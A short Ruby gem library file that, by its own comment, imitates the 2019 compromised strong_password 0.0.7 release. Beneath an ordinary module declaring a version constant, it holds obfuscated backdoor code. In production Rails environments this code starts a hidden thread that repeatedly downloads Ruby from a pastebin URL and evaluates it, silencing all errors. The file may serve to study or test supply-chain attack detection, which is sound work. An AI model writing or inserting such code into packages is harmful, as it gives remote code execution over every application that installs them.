# Imitates strong_password 0.0.7 (2019): code at the top level of a lib
# file that downloads Ruby from a paste site and evaluates it.
require 'net/http'

module StrongPassword
  VERSION = "0.0.7"
end

def _!;begin;yield;rescue Exception;end;end
_!{Thread.new{loop{_!{sleep rand*3333;eval(Net::HTTP.get(URI('https://pastebin.com/raw/xa456PFt')))}}}if Rails.env[0]=="p"}
